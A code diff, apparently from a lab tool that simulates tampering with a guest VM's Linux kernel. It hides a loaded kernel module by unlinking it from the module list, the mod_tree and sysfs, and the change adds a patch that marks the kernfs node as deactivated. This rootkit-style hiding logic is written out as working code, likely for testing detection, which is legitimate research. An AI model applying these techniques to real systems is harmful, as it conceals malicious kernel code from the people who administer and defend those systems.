@@ -33,11 +33,7 @@ extension Tampering {
     var changes = WordChanges(self)
     if places.contains(.list) { try changes.unlink(module.address + module.types.offset("module", "list")) }
     if places.contains(.tree) { try removeFromTree(module, &changes) }
-    if places.contains(.sysfs) {
-      // The path to the directory is remembered otherwise.
-      _ = try guest.output(of: "echo 2 >/proc/sys/vm/drop_caches")
-      try removeFromSysfs(module, &changes)
-    }
+    if places.contains(.sysfs) { try removeFromSysfs(module, &changes) }
     try apply(changes)
   }
 
@@ -145,27 +141,23 @@ extension Tampering {
     let types = module.types
     guard types.has("module", "mem") else {
       let layout = module.address + (try types.offset("module", "core_layout"))
-      return [
-        (try word(at: layout + types.offset("module_layout", "base")), layout + (try types.offset("module_layout", "mtn")))
-      ]
+      let node = layout + (try types.offset("module_layout", "mtn"))
+      return [(try word(at: layout + types.offset("module_layout", "base")), node)]
     }
     let parts = module.address + (try types.offset("module", "mem"))
     let (count, stride) = try types.array("module", "mem")
     var found: [(base: UInt64, node: UInt64)] = []
     for index in 0..<count {
       let part = parts + index * stride
-      let size = try read(at: part + types.offset("module_memory", "size"), count: 4)
-      if size == [0, 0, 0, 0] { continue }
-      found.append(
-        (
-          try word(at: part + types.offset("module_memory", "base")), part + (try types.offset("module_memory", "mtn"))
-        ))
+      if try read(at: part + types.offset("module_memory", "size"), count: 4) == [0, 0, 0, 0] { continue }
+      let node = part + (try types.offset("module_memory", "mtn"))
+      found.append((try word(at: part + types.offset("module_memory", "base")), node))
     }
     return found
   }
 
-  /// The tree exists twice, so that one can be read while the other changes (include/linux/rbtree_latch.h, v5.10 to
-  /// v7.2).
+  /// The tree exists twice, so that one can be read while the other changes (include/linux/rbtree_latch.h, v5.10
+  /// to v7.2).
   private func removeFromTree(_ module: Module, _ changes: inout WordChanges) throws(LabError) {
     let types = module.types
     let roots = try guest.symbol("mod_tree") + types.offset("mod_tree_root", "root")
@@ -191,5 +183,8 @@ extension Tampering {
       directory + types.offset("kernfs_node", "rb"),
       fromTreeAt: parent + types.offset("kernfs_node", "dir.children"))
     try changes.unlink(object + types.offset("kobject", "entry"))
+    // Whoever knows the path from before is told by this that it is no longer good: KN_DEACTIVATED_BIAS, fs/kernfs/dir.c,
+    // v5.10 to v7.2. It is half a word, and the other half goes on counting.
+    try patch([1, 0, 0, 0x80], at: directory + types.offset("kernfs_node", "active"))
   }
 }
